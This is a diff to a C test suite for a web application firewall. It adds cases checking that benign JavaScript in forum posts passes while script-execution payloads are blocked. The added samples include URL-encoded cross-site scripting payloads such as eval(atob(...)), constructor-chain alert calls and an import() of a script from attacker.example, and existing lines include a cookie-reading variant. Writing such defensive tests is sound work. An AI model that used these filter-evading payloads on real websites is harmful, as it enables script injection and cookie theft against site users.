@@ -267,6 +267,17 @@ TEST(compounds_languages_lists_and_quoted_attributes_pass_but_not_the_code_they_
 	          WAF_BLOCKED);
 }
 
+/* Round 4 (proxy/waf.md): code that runs a string, not code that calls a function. */
+TEST(script_code_passes_but_not_code_that_runs_a_string_or_passes_a_dialog)
+{
+	CHECK_INT(judge(l7lab, "/forum?post=setTimeout(()+%3D%3E+save()%2C+500)", plain, NULL), WAF_PASS);
+	CHECK_INT(judge(l7lab, "/forum?post=const+m+%3D+await+import(%27.%2Fcart.js%27)", plain, NULL), WAF_PASS);
+	CHECK_INT(judge(l7lab, "/forum?post=items.find(x+%3D%3E+x.id+%3D%3D%3D+id)", plain, NULL), WAF_PASS);
+	CHECK_INT(judge(l7lab, "/forum?post=setTimeout(%27alert(1)%27)", plain, NULL), WAF_BLOCKED);
+	CHECK_INT(judge(l7lab, "/forum?post=import(%27https%3A%2F%2Fattacker.example%2Fx.js%27)", plain, NULL), WAF_BLOCKED);
+	CHECK_INT(judge(l7lab, "/forum?post=%5B1%5D.find(alert)", plain, NULL), WAF_BLOCKED);
+}
+
 TEST(links_math_and_numbers_in_prose_pass)
 {
 	CHECK_INT(judge(l7lab, "/go?next=https%3A%2F%2Fexample.com%2Fonline%3Fref%3Dhome", plain, NULL), WAF_PASS);
@@ -310,6 +321,9 @@ TEST(every_l7lab_rule_blocks_its_sample)
 		{ "/?q=see%20javascript:alert(document.domain)", 941170 },
 		{ "/?q=window%5B%22alert%22%5D(document%5B%22cookie%22%5D)", 11220 },
 		{ "/?q=top%5B%2Fal%2F.source%2B%2Fert%2F.source%5D(1)", 11220 },
+		{ "/?q=eval(atob(%27YWxlcnQoMSk%3D%27))", 11240 },
+		{ "/?q=%5B%5D.constructor.constructor(%27alert(1)%27)()", 11240 },
+		{ "/?q=alert.call(null%2C1)", 11240 },
 		{ "/?q=(!%5B%5D%2B%5B%5D)%5B%2B!%2B%5B%5D%5D", 941360 },
 	};
 	for (size_t i = 0; i < sizeof(samples) / sizeof(samples[0]); i++) {
@@ -438,6 +452,7 @@ int main(void)
 	RUN(a_value_in_the_referer_query_is_inspected);
 	RUN(prose_with_and_between_numbers_passes);
 	RUN(compounds_languages_lists_and_quoted_attributes_pass_but_not_the_code_they_resemble);
+	RUN(script_code_passes_but_not_code_that_runs_a_string_or_passes_a_dialog);
 	RUN(links_math_and_numbers_in_prose_pass);
 	RUN(sql_words_in_prose_and_markdown_links_pass_but_not_sql_grammar);
 	RUN(rich_text_with_inline_styles_passes_but_not_with_script_in_it);
